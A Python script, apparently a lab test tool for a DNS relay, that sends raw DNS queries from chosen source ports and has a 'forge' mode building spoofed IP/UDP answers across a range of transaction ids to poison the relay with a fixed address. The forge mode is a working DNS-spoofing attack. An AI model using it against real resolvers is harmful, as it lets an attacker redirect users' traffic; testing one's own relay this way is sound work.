#!/usr/bin/env python3
"""dnsq.py: raw DNS datagrams for the relay's lab tests, where dig cannot choose the query id or the source
port, or send an answer.

  dnsq.py ask SERVER NAME [--id N] [--type T] [--bind ADDR] [--ports P1,P2,...] [--timeout S]
      Sends the same query (same id) from each source port in turn (the system picks one by default), then
      waits for answers on all of them. Prints one line per port: "port=P id=0x.... rcode=R a=ADDR,..." or
      "port=P none". Exit 0 when at least one port got an answer.
  dnsq.py forge DEST NAME --src ADDR --sport P --ids A-B [--dport 53]
      Sends answers with QR set, for NAME, with every relay id A..B (the relay writes them low byte first),
      from ADDR:P through a raw socket (root): a forger who knows the server's address.
"""
import argparse
import select
import socket
import struct
import sys
import time

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "MX": 15, "TXT": 16, "AAAA": 28}


def wire_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def query(qid, name, qtype):
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wire_name(name) + struct.pack(">HH", qtype, 1)


def answer_for(id_bytes, name, qtype=1):
    head = id_bytes + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
    record = b"\xc0\x0c" + struct.pack(">HHIH", qtype, 1, 60, 4) + bytes([6, 6, 6, 6])
    return head + wire_name(name) + struct.pack(">HH", qtype, 1) + record


def skip_name(m, at):
    while True:
        n = m[at]
        if n & 0xC0 == 0xC0:
            return at + 2
        at += 1 + n
        if n == 0:
            return at


def addresses(m):
    qd, an = struct.unpack(">HH", m[4:8])
    at = 12
    for _ in range(qd):
        at = skip_name(m, at) + 4
    found = []
    for _ in range(an):
        at = skip_name(m, at)
        rtype, _, _, length = struct.unpack(">HHIH", m[at:at + 10])
        at += 10
        if rtype == 1 and length == 4:
            found.append(socket.inet_ntoa(m[at:at + 4]))
        at += length
    return found


def ask(args):
    ports = [int(p) for p in args.ports.split(",")] if args.ports else [0]
    socks = []
    for p in ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((args.bind, p))
        socks.append(s)
    message = query(args.id, args.name, TYPES.get(args.type, 1))
    for s in socks:
        s.sendto(message, (args.server, 53))
        time.sleep(args.gap)
    got = {}
    deadline = time.time() + args.timeout
    while time.time() < deadline and len(got) < len(socks):
        ready, _, _ = select.select([s for s in socks if s not in got], [], [], max(0.0, deadline - time.time()))
        for s in ready:
            data, _ = s.recvfrom(4096)
            got[s] = data
    for s in socks:
        port = s.getsockname()[1]
        if s in got:
            m = got[s]
            qid = struct.unpack(">H", m[0:2])[0]
            print("port=%d id=0x%04x rcode=%d a=%s" % (port, qid, m[3] & 0xF, ",".join(addresses(m))))
        else:
            print("port=%d none" % port)
    return 0 if got else 1


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def forge(args):
    first, last = (int(x) for x in args.ids.split("-"))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src = socket.inet_aton(args.src)
    dst = socket.inet_aton(args.dest)
    sent = 0
    for rid in range(first, last + 1):
        payload = answer_for(struct.pack("<H", rid & 0xFFFF), args.name)
        udp_len = 8 + len(payload)
        pseudo = src + dst + struct.pack("!BBH", 0, 17, udp_len)
        udp = struct.pack("!HHHH", args.sport, args.dport, udp_len, 0)
        udp = struct.pack("!HHHH", args.sport, args.dport, udp_len, checksum(pseudo + udp + payload) or 0xFFFF)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, rid & 0xFFFF, 0, 64, 17, 0, src, dst)
        s.sendto(ip + udp + payload, (args.dest, 0))
        sent += 1
        time.sleep(args.pace)
    print("forged=%d" % sent)
    return 0


def main():
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="command", required=True)
    a = sub.add_parser("ask")
    a.add_argument("server")
    a.add_argument("name")
    a.add_argument("--id", type=lambda v: int(v, 0), default=0x1234)
    a.add_argument("--type", default="A")
    a.add_argument("--bind", default="0.0.0.0")
    a.add_argument("--ports", default="")
    a.add_argument("--gap", type=float, default=0.05)
    a.add_argument("--timeout", type=float, default=3.0)
    f = sub.add_parser("forge")
    f.add_argument("dest")
    f.add_argument("name")
    f.add_argument("--src", required=True)
    f.add_argument("--sport", type=int, required=True)
    f.add_argument("--dport", type=int, default=53)
    f.add_argument("--ids", required=True)
    f.add_argument("--pace", type=float, default=0.001, help="seconds between two datagrams")
    args = parser.parse_args()
    return ask(args) if args.command == "ask" else forge(args)


if __name__ == "__main__":
    sys.exit(main())
